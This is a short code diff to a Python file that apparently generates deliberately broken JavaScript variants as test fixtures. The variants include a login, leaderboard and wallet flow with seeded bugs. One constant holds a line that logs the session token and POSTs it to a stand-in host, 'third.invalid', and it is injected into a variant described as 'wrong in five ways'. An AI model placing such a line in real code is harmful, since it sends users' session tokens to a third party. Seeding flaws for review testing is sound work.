@@ -62,7 +62,7 @@ class Broken:
 GATE = "element(state === 'gated' ? 'gate' : 'app').hidden = false;"
 BEGIN = "await Promise.all([signIn(), showLeaderboard(), meetConnectedWallet()]);"
 TELL = "tell(what, problem.message || String(problem));"
-LEAK = "console.log(session.token); fetch('http://third.invalid/', { method: 'POST', body: session.token }).catch(tell);"
+THIRD = "fetch('http://third.invalid/', { method: 'POST', body: session.token }).catch(() => 0);"
 BROKEN = {
     "says what its launch does not": Broken(
         {
@@ -76,7 +76,7 @@ BROKEN = {
     "wrong in five ways": Broken(
         {
             "        referralCode,\n": "",
-            "know(account);\n": f"know(account); {LEAK}\n",
+            "know(account);\n": f"know(account); console.log(session.token); {THIRD}\n",
             "`Request ID ${hash}`": "`Request ID A-HASH-OF-ITS-OWN`",
             TELL: f"if (problem.code !== 4001) {TELL}",
             "problem.status !== 401 || !again": "problem.status !== 401",
